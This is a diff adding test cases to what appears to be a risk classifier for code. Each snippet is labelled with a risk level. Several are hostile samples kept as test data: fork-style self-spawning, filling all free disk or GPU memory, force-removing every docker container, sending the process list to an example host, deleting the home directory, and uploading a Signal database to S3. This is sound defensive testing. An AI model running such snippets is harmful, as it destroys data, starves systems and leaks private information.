@@ -2280,6 +2280,46 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'boto3.client("s3").upload_file(os.path.expanduser("~/.config/Signal/sql/db.sqlite"), "b", "k")',
             C,
         ),
+        # processes and resources: self-spawning, free-space sized allocations, pid files, container listings
+        ("import subprocess, sys\nfor _ in range(2):\n    subprocess.Popen([sys.executable, __file__])", H),
+        ('import subprocess, sys\nsubprocess.run([sys.executable, __file__, "--child"])', L),
+        (
+            'import os, shutil\nfree = shutil.disk_usage("/tmp").free\nwith open("/tmp/.r", "wb") as f:\n'
+            "    os.posix_fallocate(f.fileno(), 0, free)",
+            H,
+        ),
+        ('import os\nfd = os.open("data/pre.bin", os.O_CREAT | os.O_WRONLY)\nos.posix_fallocate(fd, 0, 100 << 20)', S),
+        (
+            "import torch\nfree, _ = torch.cuda.mem_get_info(0)\n"
+            'x = torch.empty(int(free * 0.98), dtype=torch.uint8, device="cuda:0")',
+            H,
+        ),
+        (
+            "import os, signal\nfrom pathlib import Path\npid = int(Path('.run/dev.pid').read_text())\n"
+            "os.kill(pid, signal.SIGTERM)\nfor _ in range(50):\n    os.kill(pid, 0)",
+            S,
+        ),
+        (
+            'import subprocess\nids = subprocess.check_output(["docker", "ps", "-aq"], text=True).split()\n'
+            'subprocess.run(["docker", "rm", "-f", *ids])',
+            H,
+        ),
+        (
+            'import subprocess\nids = subprocess.check_output(["docker", "ps", "-aq", "--filter", '
+            '"label=p=x"]).split()\n'
+            'subprocess.run(["docker", "rm", "-f", *ids])',
+            L,
+        ),
+        (
+            'import json, subprocess, urllib.request\nps = subprocess.check_output(["ps", "auxww"], text=True)\n'
+            'urllib.request.urlopen("https://hooks.example.com/ps", data=json.dumps(ps).encode())',
+            C,
+        ),
+        (
+            'import subprocess, os\nsubprocess.run(["perl", "-e", "use File::Path; rmtree($ARGV[0]);", '
+            'os.path.expanduser("~")])',
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
